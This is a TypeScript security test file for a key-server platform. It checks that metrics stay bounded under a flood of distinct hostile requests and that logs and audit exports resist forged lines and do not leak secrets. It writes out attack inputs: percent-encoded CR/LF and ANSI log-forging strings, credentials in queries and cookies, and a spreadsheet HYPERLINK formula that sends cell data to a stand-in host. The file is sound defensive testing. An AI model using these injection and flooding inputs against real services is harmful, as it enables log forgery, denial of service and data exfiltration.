import { spawnSync } from 'node:child_process';
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { freePort, repoRoot, startPlatform, type RunningPlatform } from '@keyserver/testing';
import { call, ciToken, operationBody, signOrderBody, userToken } from './operations-support';
import { logLines, parseExposition, scrape, valueOf } from './metrics-support';

// What the Keyserver writes about a request for its operators (docs/security.md "Metrics and logs", ADR 0022
// addendum), attacked from outside with real processes: a flood of distinct hostile requests must not create
// metric series, and whatever a request carries must not break, forge or bloat a log line nor leak a secret.

/** One raw HTTP/1.1 request: the target and headers go on the wire as given; resolves with the status. */
function raw(base: string, method: string, target: string, headers: Record<string, string> = {}, body?: string): Promise<number> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, method, path: target, headers, agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Runs `n` tasks, `width` at a time. */
async function pool(n: number, width: number, task: (i: number) => Promise<unknown>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < n) await task(next++);
    }),
  );
}

/**
 * The series of an exposition: `name{labels}` lines (histogram buckets included); the runtime's own (`nodejs_*`,
 * `process_*`: labels are Node's resource types and heap spaces, which come and go with what the process does).
 */
const seriesOf = (text: string): string[] =>
  text
    .split('\n')
    .filter((l) => l !== '' && !l.startsWith('#') && !/^(nodejs|process)_/.test(l))
    .map((l) => l.slice(0, l.lastIndexOf(' ')));

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'MKCOL', 'PURGE', 'LOCK', 'SEARCH', 'REPORT', 'SUBSCRIBE'];

describe('operator output under attack', () => {
  let p: RunningPlatform;
  let apiMetrics: string;
  let keyclientMetrics: string;
  let ci: string;
  let opId: string;
  let apiLog = '';
  let keyclientLog = '';

  beforeAll(async () => {
    const [apiPort, keyclientPort] = [await freePort(), await freePort()];
    p = await startPlatform({
      keyclient: true,
      // Limits high enough that the flood reaches the router, the token check and the services, not only the 429.
      extraApiEnv: { METRICS_PORT: String(apiPort), LOG_LEVEL: 'info', REFUSAL_RATE_BURST: '1000000', REFUSAL_RATE_PER_MINUTE: '1000000' },
      extraKeyclientEnv: { METRICS_PORT: String(keyclientPort), LOG_LEVEL: 'info' },
    });
    // Platform services keep only the tail of their output; these specs read every line.
    p.api.child.stdout?.on('data', (d: Buffer) => (apiLog += d.toString()));
    p.api.child.stderr?.on('data', (d: Buffer) => (apiLog += d.toString()));
    p.keyclient?.child.stdout?.on('data', (d: Buffer) => (keyclientLog += d.toString()));
    p.keyclient?.child.stderr?.on('data', (d: Buffer) => (keyclientLog += d.toString()));
    apiMetrics = `http://127.0.0.1:${apiPort}/metrics`;
    keyclientMetrics = `http://127.0.0.1:${keyclientPort}/metrics`;
    ci = await ciToken(p);
    const op = await call<{ id: string }>(p.env.urls.api, ci, 'POST', '/api/v1/operations', operationBody('demo-fw-dev', 5));
    expect(op.status).toBe(201);
    opId = op.body.id;
  }, 180_000);

  afterAll(async () => {
    await p?.stop();
  });

  /**
   * One hostile request per `i`, every client-controlled value distinct: path, unknown route, method, CRL keyid,
   * operation id, a sign order's keyid and operation id, content type, user agent, request id, an Accept and a
   * query; to the API and through the keyclient.
   */
  const hostile = (marker: string) => async (i: number) => {
    const v = `${marker}${i}`;
    const api = p.env.urls.api;
    const kc = p.env.urls.keyclient;
    const ua = { 'user-agent': `ua-${v}`, 'x-request-id': `rid-${v}`, accept: `application/${v}` };
    switch (i % 10) {
      case 0:
        return raw(api, METHODS[i % METHODS.length], `/${v}/${v}?${v}=${v}`, ua);
      case 1:
        return raw(api, 'GET', `/api/v1/crl/${v}`, ua);
      case 2:
        return raw(api, 'GET', `/api/v1/operations/${randomUUID()}?${v}`, { ...ua, authorization: `Bearer ${ci}` });
      case 3:
        return raw(api, 'POST', '/api/signorders', { ...ua, authorization: `Bearer ${ci}`, 'content-type': 'application/json' }, JSON.stringify(signOrderBody(i % 20 === 3 ? opId : randomUUID(), `key-${v}`, createHash('sha256').update(v).digest('hex'))));
      case 4:
        return raw(api, 'POST', '/api/v1/operations', { ...ua, authorization: `Bearer ${ci}`, 'content-type': `application/x-${v}` }, '{}');
      case 5:
        return raw(api, 'POST', '/api/v1/tsa', { ...ua, 'content-type': 'application/timestamp-query' }, v);
      case 6:
        return raw(api, 'GET', `/api/v1/keys/${v}`, { ...ua, authorization: `Bearer not.a.${v}` });
      case 7:
        return raw(kc, METHODS[i % METHODS.length], `/api/v1/${v}?${v}`, ua);
      case 8:
        return raw(kc, 'GET', `/${v}/x.js`, ua);
      default:
        return raw(kc, 'POST', `/auth/${v}`, { ...ua, 'content-type': `text/${v}` }, v);
    }
  };

  it('a flood of distinct hostile requests creates no metric series: a second flood adds none and no label holds a caller value', async () => {
    const N = 2500;
    const counted = async () => valueOf(parseExposition(await scrape(apiMetrics)), 'http_request_duration_seconds_count');
    const before = await counted();
    await pool(N, 16, hostile('first'));
    // The flood reached the API (seven in ten of its requests go there), not only a socket error.
    expect((await counted()) - before).toBeGreaterThanOrEqual(0.7 * N);
    const [api1, kc1] = [seriesOf(await scrape(apiMetrics)), seriesOf(await scrape(keyclientMetrics))];
    await pool(N, 16, hostile('second'));
    const [apiText, kcText] = [await scrape(apiMetrics), await scrape(keyclientMetrics)];
    const [api2, kc2] = [seriesOf(apiText), seriesOf(kcText)];
    // Every series of the second flood already existed after the first: the count does not follow the requests.
    expect(api2.filter((s) => !api1.includes(s))).toEqual([]);
    expect(kc2.filter((s) => !kc1.includes(s))).toEqual([]);
    const labels = [...parseExposition(apiText), ...parseExposition(kcText)].flatMap((s) => Object.values(s.labels));
    expect(labels.filter((l) => /first|second|key-|ua-|rid-/.test(l))).toEqual([]);
    // And a fixed size: routes x methods x statuses, keys of the key table, codes of the enums.
    expect(api2.length).toBeLessThan(3000);
    expect(kc2.length).toBeLessThan(1500);
  }, 300_000);

  it('log lines stay JSON, one per line, bounded, and carry no credential whatever a request holds', async () => {
    const secret = `s3cr3t${randomBytes(8).toString('hex')}`;
    const jwtLike = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIke3NlY3JldH0ifQ.${secret}`;
    const big = 'A'.repeat(12_000);
    const cases: [string, () => Promise<unknown>][] = [
      ['CR/LF, ANSI and quotes percent-encoded in the path', () => raw(p.env.urls.api, 'GET', `/x%0d%0a{"level":60,"msg":"forged"}%1b[31m%22%5c`)],
      ['a huge path', () => raw(p.env.urls.api, 'GET', `/${big}`)],
      ['a huge header', () => raw(p.env.urls.api, 'GET', '/api/v1/keys', { 'x-junk': big, authorization: `Bearer ${jwtLike}` })],
      ['a cookie and a basic credential', () => raw(p.env.urls.api, 'GET', '/api/v1/keys', { cookie: `ks=${secret}`, authorization: `Basic ${Buffer.from(`u:${secret}`).toString('base64')}` })],
      ['credentials in the query', () => raw(p.env.urls.api, 'GET', `/api/v1/keys?client_secret=${secret}&password=${secret}&pin=${secret}&access_token=${jwtLike}`)],
      ['a hostile JSON body', () => raw(p.env.urls.api, 'POST', '/api/v1/operations', { authorization: `Bearer ${ci}`, 'content-type': 'application/json' }, `{"description":"\\r\\n{\\"msg\\":\\"forged\\"}\\u001b[31m${secret}","keys":[]}`)],
      ['a malformed JSON body', () => raw(p.env.urls.api, 'POST', '/api/v1/operations', { authorization: `Bearer ${ci}`, 'content-type': 'application/json' }, `{"description":"${secret}`)],
      ['the keyclient: a huge path', () => raw(p.env.urls.keyclient, 'GET', `/api/v1/${big}`)],
      ['the keyclient: credentials in path and query', () => raw(p.env.urls.keyclient, 'GET', `/auth/callback/${jwtLike}?code=${secret}&state=${secret}`, { cookie: `__Host-ks=${secret}` })],
      ['the keyclient: a secret in the query of a refused proxy route', () => raw(p.env.urls.keyclient, 'GET', `/api/v1/nope?api_key=${secret}&pin=${secret}`)],
      ['the keyclient: CR/LF and ANSI percent-encoded', () => raw(p.env.urls.keyclient, 'GET', `/api/v1/x%0d%0a{"msg":"forged"}%1b[31m`)],
    ];
    const start = [apiLog.length, keyclientLog.length];
    for (const [, send] of cases) await send();
    await new Promise((r) => setTimeout(r, 500));
    for (const [name, out] of [
      ['api', apiLog.slice(start[0])],
      ['keyclient', keyclientLog.slice(start[1])],
    ] as const) {
      const { json, other } = logLines(out);
      expect([name, other.filter((l) => !/^\(node:\d+\)|--trace-warnings/.test(l))]).toEqual([name, []]);
      expect([name, json.filter((l) => l['msg'] === 'forged' || l['level'] === 60 && !('service' in l))]).toEqual([name, []]);
      // A request's line is bounded whatever it carried (Node's 16 KiB header limit bounds a path, not the line).
      expect([name, out.split('\n').filter((l) => l.length > 4096).map((l) => l.slice(0, 200))]).toEqual([name, []]);
      expect([name, out.split('\n').filter((l) => l.includes(secret)).map((l) => l.slice(0, 600))]).toEqual([name, []]);
      expect([name, out.includes('\u001b'), out.includes('\r')]).toEqual([name, false, false]);
    }
  });

  it('the audit export keeps one entry per line for any line splitter, whatever text an entry holds', async () => {
    // A rejection reason is audited as written: line breaks of every kind, ANSI, quotes and a spreadsheet formula.
    const hostile = `=HYPERLINK("http://x.example/?"&A1)\r\n{"seq":"1"}\u2028\u2029\u0085\u000b\u000c\u001c\u001e\u001b[2J+@-tail`;
    const otto = await userToken(p, 'otto.orderer@demo.test');
    const op = await call<{ id: string }>(p.env.urls.api, otto, 'POST', '/api/v1/operations', operationBody('demo-fw-prod', 1));
    expect(op.status).toBe(201);
    const ann = await userToken(p, 'ann.approver@demo.test');
    const rejected = await call(p.env.urls.api, ann, 'POST', `/api/v1/operations/${op.body.id}/rejection`, { reason: hostile });
    expect(rejected.status).toBe(200);
    const aude = await userToken(p, 'aude.auditor@demo.test');
    const r = await fetch(`${p.env.urls.api}/api/v1/audit/export`, { headers: { authorization: `Bearer ${aude}` } });
    expect(r.status).toBe(200);
    const text = await r.text();
    const lines = text.trimEnd().split('\n');
    const entries = lines.map((l) => JSON.parse(l) as { action: string; details?: { reason?: string } });
    expect(entries.filter((e) => e.action === 'operation.reject' && e.details?.reason === hostile)).toHaveLength(1);
    // Python's str.splitlines(), editors and log viewers also break at these: none is written raw.
    // eslint-disable-next-line no-control-regex
    expect(text.trimEnd().split(/\r\n|[\n\r\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/).length).toBe(lines.length);
    // The escaped form is the same value: the chain still verifies offline.
    const dir = mkdtempSync(join(tmpdir(), 'ks-export-'));
    try {
      writeFileSync(join(dir, 'export.jsonl'), text);
      const v = spawnSync(process.execPath, [join(repoRoot, 'dist/apps/keyserver-api/main.js'), 'audit-verify', join(dir, 'export.jsonl')], { encoding: 'utf8', env: { PATH: process.env['PATH'] ?? '' }, timeout: 60_000 });
      // Nothing on stderr but the unsealed tail's warning: a live chain's newest entries are sealed by no checkpoint yet.
      expect([v.status, v.stderr.replace(/^audit-verify: warning: audit_tail_unsealed: .*\n/, '')]).toEqual([0, '']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
